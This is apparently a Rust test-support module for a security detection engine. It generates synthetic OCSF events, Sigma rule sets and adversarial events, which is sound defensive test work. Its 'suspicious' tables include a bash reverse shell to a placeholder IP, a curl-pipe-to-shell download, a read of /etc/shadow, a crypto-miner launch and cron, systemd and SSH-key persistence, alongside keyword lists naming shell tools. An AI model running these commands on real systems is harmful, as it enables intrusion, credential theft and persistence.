//! Shared by the integration tests and the throughput bench: a small deterministic random
//! generator, a realistic mix of OCSF events, synthetic Sigma rule sets of any size, and
//! adversarial events built from the literals of a rule corpus.
#![allow(dead_code)]

use serde_json::{Value, json};
use vigil_ocsf::Event;

/// xorshift64*: deterministic, dependency-free.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    pub fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    /// True with probability `percent`/100.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    pub fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16)]))
            .collect()
    }
}

/// Everyday command lines on a Linux server or workstation, `{}` replaced by a variable part.
const EVERYDAY: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /home/{}"),
    ("/usr/bin/ls", "ls --color=auto"),
    ("/usr/bin/git", "git status --short"),
    ("/usr/bin/git", "git log --oneline -n {}"),
    ("/usr/bin/git", "git fetch origin main"),
    ("/usr/bin/cat", "cat /etc/os-release"),
    ("/usr/bin/grep", "grep -rn TODO src/{}"),
    ("/usr/bin/ps", "ps aux"),
    ("/usr/bin/df", "df -h"),
    ("/usr/bin/du", "du -sh /var/lib/{}"),
    (
        "/usr/bin/python3",
        "python3 manage.py runserver 0.0.0.0:8000",
    ),
    (
        "/usr/bin/python3",
        "/usr/bin/python3 /usr/bin/unattended-upgrade",
    ),
    ("/usr/bin/node", "node /srv/app/server.js --port {}"),
    ("/usr/bin/npm", "npm ci --no-audit"),
    ("/usr/bin/cargo", "cargo build --release -p {}"),
    (
        "/usr/bin/rustc",
        "rustc --crate-name {} --edition=2021 src/lib.rs --crate-type lib",
    ),
    ("/usr/bin/cc", "cc -O2 -c {}.c -o {}.o"),
    ("/usr/bin/make", "make -j8"),
    ("/usr/bin/systemctl", "systemctl status nginx"),
    ("/usr/bin/journalctl", "journalctl -u nginx --since today"),
    ("/usr/bin/vim", "vim /etc/nginx/sites-available/{}"),
    ("/usr/bin/tar", "tar -czf /backup/{}.tar.gz /srv/data"),
    ("/usr/bin/rsync", "rsync -a /srv/ backup:/srv/{}"),
    ("/usr/bin/ssh", "ssh deploy@10.0.0.{}"),
    ("/usr/bin/curl", "curl -s https://api.example.com/health/{}"),
    (
        "/usr/bin/wget",
        "wget -q https://releases.example.com/pkg-{}.tar.gz",
    ),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    ("/bin/sh", "/bin/sh -c run-parts --report /etc/cron.hourly"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/bin/bash", "bash -c echo {}"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {} -address /run/containerd/containerd.sock",
    ),
    ("/usr/sbin/runc", "runc init"),
    ("/usr/bin/docker", "docker ps --format {}"),
    ("/usr/bin/kubectl", "kubectl get pods -A -o wide"),
    ("/usr/lib/systemd/systemd-journald", ""),
    ("/usr/sbin/sshd", "sshd: alice [priv]"),
    ("/usr/bin/sudo", "sudo apt-get update"),
    ("/usr/bin/apt-get", "apt-get install -y {}"),
    ("/usr/bin/sed", "sed -i s/foo/bar/ {}.conf"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
];

/// Attacker-ish command lines, about one event in a hundred.
const SUSPICIOUS: &[(&str, &str)] = &[
    (
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/203.0.113.{}/4444 0>&1",
    ),
    ("/usr/bin/base64", "base64 -d /tmp/{}"),
    ("/usr/bin/curl", "curl -fsSL http://203.0.113.9/{}.sh | sh"),
    ("/usr/bin/chmod", "chmod +x /tmp/{}"),
    ("/usr/bin/whoami", "whoami"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/nohup", "nohup ./xmrig -o pool.minexmr.com:443"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
];

const PARENTS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/sshd", "sshd: alice@pts/0"),
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby",
    ),
    ("/usr/bin/node", "node /srv/app/server.js"),
    ("/usr/bin/python3", "python3 worker.py"),
];

const USERS: &[&str] = &["root", "alice", "bob", "www-data", "deploy"];

fn device() -> Value {
    json!({"type_id": 1, "hostname": "web-1", "uid": "sensor-1",
           "os": {"name": "Linux", "type_id": 200}})
}

/// A Process Activity launch.
pub fn launch(image: &str, cmd: &str, parent: (&str, &str), user: &str, time: i64) -> Event {
    let name = image.rsplit('/').next().unwrap_or(image);
    let pname = parent.0.rsplit('/').next().unwrap_or(parent.0);
    Event::from_value(json!({
        "class_uid": 1007, "activity_id": 1, "category_uid": 1, "type_uid": 100701,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "process": {
            "pid": 4000 + time % 30_000, "name": name, "cmd_line": cmd,
            "file": {"path": image, "name": name, "type_id": 1},
            "user": {"name": user, "uid": "1000"},
            "working_directory": format!("/home/{user}"),
        },
        "actor": {"process": {
            "pid": 100, "name": pname, "cmd_line": parent.1,
            "file": {"path": parent.0, "name": pname, "type_id": 1},
            "user": {"name": user},
        }},
    }))
    .expect("valid launch")
}

/// A Network Activity connection; `inbound` gives `unmapped.initiated: "false"`.
pub fn connection(src: (&str, u16), dst: (&str, u16), inbound: bool, time: i64) -> Event {
    Event::from_value(json!({
        "class_uid": 4001, "activity_id": 1, "category_uid": 4, "type_uid": 400101,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "src_endpoint": {"ip": src.0, "port": src.1},
        "dst_endpoint": {"ip": dst.0, "port": dst.1},
        "connection_info": {"protocol_name": "tcp", "direction_id": if inbound { 1 } else { 2 }},
        "actor": {"process": {"pid": 900, "file": {"path": "/usr/sbin/nginx"},
                              "cmd_line": "nginx: worker process", "user": {"name": "www-data"}}},
        "unmapped": {"initiated": if inbound { "false" } else { "true" }},
    }))
    .expect("valid connection")
}

/// A File System Activity record (`activity_id` 1 create, 2 read, 3 update, 4 delete) by a
/// process.
pub fn file_activity(path: &str, activity_id: u64, actor: (&str, &str), time: i64) -> Event {
    let name = path.rsplit('/').next().unwrap_or(path);
    let (exe, cmd) = actor;
    Event::from_value(json!({
        "class_uid": 1001, "activity_id": activity_id, "category_uid": 1,
        "type_uid": 100100 + activity_id, "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "file": {"path": path, "name": name, "type_id": 1},
        "actor": {"process": {"pid": 2000 + time % 5_000, "cmd_line": cmd,
                              "file": {"path": exe, "name": exe.rsplit('/').next().unwrap_or(exe)},
                              "user": {"name": "root"}}},
    }))
    .expect("valid file activity")
}

/// An Authentication logon record (`status_id` 1 success, 2 failure) by a service.
pub fn logon(service: &str, user: &str, src: Option<&str>, success: bool, time: i64) -> Event {
    let mut ev = json!({
        "class_uid": 3002, "activity_id": 1, "category_uid": 3, "type_uid": 300201,
        "time": time, "severity_id": 1,
        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
        "device": device(),
        "status_id": if success { 1 } else { 2 },
        "status": if success { "Success" } else { "Failure" },
        "service": {"name": service}, "user": {"name": user},
        "is_remote": src.is_some(),
    });
    if let Some(ip) = src {
        ev["src_endpoint"] = json!({"ip": ip, "port": 50_000 + time % 10_000});
    }
    Event::from_value(ev).expect("valid logon")
}

/// Files everyday work writes and reads (`{}`: a variable part), and the writer.
const EVERYDAY_FILES: &[(&str, (&str, &str))] = &[
    (
        "/var/log/nginx/access.log",
        ("/usr/sbin/nginx", "nginx: worker process"),
    ),
    (
        "/var/lib/postgresql/15/main/base/{}",
        ("/usr/lib/postgresql/15/bin/postgres", "postgres: writer"),
    ),
    ("/tmp/tmp.{}", ("/usr/bin/bash", "bash build.sh")),
    (
        "/home/alice/.cache/pip/{}",
        ("/usr/bin/python3", "pip install -r requirements.txt"),
    ),
    (
        "/srv/app/uploads/{}.png",
        ("/usr/bin/node", "node /srv/app/server.js"),
    ),
    ("/etc/hosts", ("/usr/bin/cat", "cat /etc/hosts")),
    (
        "/var/cache/apt/archives/{}.deb",
        ("/usr/bin/apt-get", "apt-get install -y {}"),
    ),
    (
        "/run/containerd/io.containerd.runtime.v2.task/moby/{}/config.json",
        ("/usr/bin/containerd", "containerd"),
    ),
];

/// Files an intruder touches, about one file event in a hundred.
const SUSPICIOUS_FILES: &[(&str, (&str, &str))] = &[
    (
        "/etc/cron.d/{}",
        (
            "/usr/bin/bash",
            "bash -c echo * * * * * root sh > /etc/cron.d/{}",
        ),
    ),
    (
        "/etc/systemd/system/{}.service",
        ("/usr/bin/cp", "cp x /etc/systemd/system/{}.service"),
    ),
    ("/root/.ssh/authorized_keys", ("/usr/bin/bash", "bash")),
    (
        "/dev/shm/{}",
        ("/usr/bin/curl", "curl -o /dev/shm/{} http://203.0.113.9/x"),
    ),
];

/// `n` events: half process launches, a quarter network connections (inbound and outbound),
/// a fifth file activity, the rest logons; about one in a hundred of the launches and file
/// events suspicious, one logon in five a failure.
pub fn realistic_events(n: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let time = 1_700_000_000_000 + i as i64 * 10;
            let var = |rng: &mut Rng| match rng.below(3) {
                0 => rng.below(200).to_string(),
                1 => rng.hex(8),
                _ => format!("app-{}", rng.below(50)),
            };
            let kind = rng.below(100);
            if kind < 50 {
                let table = if rng.chance(1) { SUSPICIOUS } else { EVERYDAY };
                let (image, cmd) = rng.pick(table);
                let cmd = cmd.replace("{}", &var(&mut rng));
                let parent = *rng.pick(PARENTS);
                let user = rng.pick(USERS);
                launch(image, &cmd, parent, user, time)
            } else if kind < 75 {
                let peer = format!("198.51.100.{}", rng.below(250));
                let port = 30_000 + rng.below(30_000) as u16;
                if rng.chance(50) {
                    connection(
                        (&peer, port),
                        ("10.0.0.5", *rng.pick(&[22, 443, 80])),
                        true,
                        time,
                    )
                } else {
                    let svc = *rng.pick(&[443u16, 80, 53, 5432, 6379]);
                    connection(("10.0.0.5", port), (&peer, svc), false, time)
                }
            } else if kind < 95 {
                let table = if rng.chance(1) {
                    SUSPICIOUS_FILES
                } else {
                    EVERYDAY_FILES
                };
                let (path, (exe, cmd)) = rng.pick(table);
                let v = var(&mut rng);
                let activity = 1 + rng.below(4) as u64;
                file_activity(
                    &path.replace("{}", &v),
                    activity,
                    (exe, &cmd.replace("{}", &v)),
                    time,
                )
            } else {
                let (service, src) = match rng.below(3) {
                    0 => ("sudo", None),
                    1 => ("su", None),
                    _ => ("sshd", Some(format!("198.51.100.{}", rng.below(250)))),
                };
                let user = rng.pick(USERS);
                logon(service, user, src.as_deref(), !rng.chance(20), time)
            }
        })
        .collect()
}

/// Common fragments of real rules: they occur in everyday events too.
const COMMON_TOKENS: &[&str] = &[
    " -c ",
    " -e ",
    " -d ",
    " -o ",
    " -O ",
    " --output",
    "/tmp/",
    "/dev/shm/",
    "/var/tmp/",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.ssh/",
    ".bash_history",
    "http://",
    "https://",
    "| sh",
    "|bash",
    "base64",
    "chmod +x",
    "/proc/self/",
    "nohup ",
    "crontab",
    "sudo ",
    " -i ",
    "/dev/tcp/",
    "python",
    "perl -e",
    "wget ",
    "curl ",
    "0>&1",
    "iptables",
    "useradd",
];

const BINARIES: &[&str] = &[
    "bash",
    "sh",
    "dash",
    "zsh",
    "curl",
    "wget",
    "python3",
    "perl",
    "ruby",
    "php",
    "nc",
    "ncat",
    "socat",
    "ssh",
    "scp",
    "tar",
    "gzip",
    "base64",
    "chmod",
    "chown",
    "crontab",
    "systemctl",
    "useradd",
    "usermod",
    "passwd",
    "iptables",
    "ip",
    "ifconfig",
    "netstat",
    "ss",
    "ps",
    "kill",
    "pkill",
    "find",
    "grep",
    "awk",
    "sed",
    "xxd",
    "openssl",
    "dd",
    "mount",
    "insmod",
    "modprobe",
    "nohup",
    "screen",
    "tmux",
    "at",
    "git",
    "docker",
    "kubectl",
    "node",
    "java",
    "gcc",
];

/// A Sigma process_creation rule set of `n` rules, as one multi-document YAML text. Shapes
/// and literals follow real rules: binaries by suffix, command-line fragments (some common,
/// most rare indicators), `all`, filters, `1 of`, keywords, some regular expressions.
pub fn synthetic_rules(n: usize, seed: u64) -> String {
    let mut rng = Rng::new(seed);
    let mut out = String::new();
    for i in 0..n {
        let rare = |rng: &mut Rng| match rng.below(4) {
            0 => format!("evil-{}", rng.hex(6)),
            1 => format!("/tmp/.{}", rng.hex(5)),
            2 => format!("c2-{}.example", rng.below(100_000)),
            _ => format!("--{}-{}", rng.pick(BINARIES), rng.hex(4)),
        };
        let token = |rng: &mut Rng| {
            if rng.chance(35) {
                rng.pick(COMMON_TOKENS).to_string()
            } else {
                rare(rng)
            }
        };
        let quote = |s: &str| format!("'{}'", s.replace('\'', "''"));
        let image = format!("/{}", rng.pick(BINARIES));
        let detection = match rng.below(100) {
            0..40 => format!(
                "    selection:\n        Image|endswith: {}\n        CommandLine|contains:\n            - {}\n            - {}\n    condition: selection\n",
                quote(&image),
                quote(&token(&mut rng)),
                quote(&token(&mut rng))
            ),
            40..55 => format!(
                "    selection:\n        CommandLine|contains|all:\n            - {}\n            - {}\n    condition: selection\n",
                quote(&token(&mut rng)),
                quote(&rare(&mut rng))
            ),
            55..70 => format!(
                "    selection:\n        Image|endswith: {}\n        CommandLine|contains: {}\n    filter:\n        ParentImage|startswith: '/usr/lib/'\n    condition: selection and not filter\n",
                quote(&image),
                quote(&token(&mut rng))
            ),
            70..80 => format!(
                "    selection_a:\n        CommandLine|contains: {}\n    selection_b:\n        Image|endswith: {}\n        CommandLine|startswith: {}\n    condition: 1 of selection_*\n",
                quote(&rare(&mut rng)),
                quote(&image),
                quote(&format!("{} {}", rng.pick(BINARIES), rare(&mut rng)))
            ),
            80..83 => format!(
                "    keywords:\n        - {}\n        - {}\n    condition: keywords\n",
                quote(&rare(&mut rng)),
                quote(&rare(&mut rng))
            ),
            83..88 => format!(
                "    selection:\n        CommandLine|re: {}\n    condition: selection\n",
                quote(&format!("{}\\s+-[a-z]*{}", rng.pick(BINARIES), rng.hex(2)))
            ),
            88..96 => format!(
                "    selection:\n        Image: {}\n        User: {}\n    condition: selection\n",
                quote(&format!("/usr/bin/{}", rng.pick(BINARIES))),
                quote(USERS[rng.below(USERS.len())])
            ),
            _ => format!(
                "    selection:\n        Image|endswith: {}\n    condition: selection\n",
                quote(&format!("/{}-{}", rng.pick(BINARIES), rng.hex(3)))
            ),
        };
        out.push_str(&format!(
            "---\ntitle: Synthetic {i}\nid: synthetic-{i}\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n{detection}level: medium\n"
        ));
    }
    out
}

/// Every string in the `detection` sections of a YAML text (field values, keywords).
pub fn detection_literals(yaml: &str) -> Vec<String> {
    fn walk(v: &serde_yaml::Value, out: &mut Vec<String>) {
        match v {
            serde_yaml::Value::String(s) => out.push(s.clone()),
            serde_yaml::Value::Number(n) => out.push(n.to_string()),
            serde_yaml::Value::Sequence(items) => items.iter().for_each(|i| walk(i, out)),
            serde_yaml::Value::Mapping(m) => m
                .iter()
                .filter(|(k, _)| k.as_str() != Some("condition"))
                .for_each(|(_, v)| walk(v, out)),
            _ => {}
        }
    }
    let mut out = Vec::new();
    for doc in serde_yaml::Deserializer::from_str(yaml) {
        if let Ok(v) = <serde_yaml::Value as serde::Deserialize>::deserialize(doc)
            && let Some(d) = v.get("detection")
        {
            walk(d, &mut out);
        }
    }
    out
}

/// A literal turned into event text: wildcards dropped or filled, letter case and
/// characters mutated now and then, so events land on and beside the rules' edges.
fn mutate(rng: &mut Rng, literal: &str) -> String {
    let mut s: String = literal
        .chars()
        .filter_map(|c| match c {
            '*' if rng.chance(50) => None,
            '*' => Some(char::from(b"abcxyz/ -"[rng.below(9)])),
            '?' => Some('x'),
            _ => Some(c),
        })
        .collect();
    match rng.below(10) {
        0 => s = s.to_uppercase(),
        1 => s = s.chars().rev().collect(),
        2 if !s.is_empty() => {
            let cut = rng.below(s.len());
            s = s.chars().take(cut).collect();
        }
        3 => s = s.replace(['k', 'K'], "\u{212A}"),
        4 => s = s.replace('-', "\u{2013}"),
        5 => s = format!("Ü{s}é"),
        _ => {}
    }
    s
}

/// Events built from a corpus's literals: process launches whose image, command line, parent
/// and user are assembled from them, and connections with numbers and strings where ports
/// and addresses go.
pub fn adversarial_events(literals: &[String], n: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng::new(seed);
    let lit = |rng: &mut Rng| {
        if literals.is_empty() {
            String::new()
        } else {
            let l = rng.pick(literals).clone();
            mutate(rng, &l)
        }
    };
    (0..n)
        .map(|i| {
            let time = 1_700_000_000_000 + i as i64;
            if rng.chance(80) {
                let image = match rng.below(3) {
                    0 => lit(&mut rng),
                    1 => format!("/usr/bin{}", lit(&mut rng)),
                    _ => format!("/usr/bin/{}", rng.pick(BINARIES)),
                };
                let parts = 1 + rng.below(4);
                let cmd: Vec<String> = (0..parts).map(|_| lit(&mut rng)).collect();
                let sep = if rng.chance(50) { " " } else { "" };
                let parent_image = lit(&mut rng);
                let parent_cmd = lit(&mut rng);
                let user = if rng.chance(30) {
                    lit(&mut rng)
                } else {
                    rng.pick(USERS).to_string()
                };
                launch(
                    &image,
                    &cmd.join(sep),
                    (&parent_image, &parent_cmd),
                    &user,
                    time,
                )
            } else {
                let mut ev = connection(
                    ("198.51.100.7", 40_000),
                    ("10.0.0.5", 22),
                    rng.chance(50),
                    time,
                );
                let port: Value = match rng.below(4) {
                    0 => json!(lit(&mut rng)),
                    1 => json!(rng.below(65_536)),
                    2 => json!(rng.below(65_536) as f64),
                    _ => json!([rng.below(10_000), lit(&mut rng)]),
                };
                ev.data["dst_endpoint"]["port"] = port;
                ev.data["dst_endpoint"]["hostname"] = json!(lit(&mut rng));
                ev.data["dst_endpoint"]["ip"] = json!(lit(&mut rng));
                ev.data["actor"]["process"]["file"]["path"] = json!(lit(&mut rng));
                ev
            }
        })
        .collect()
}
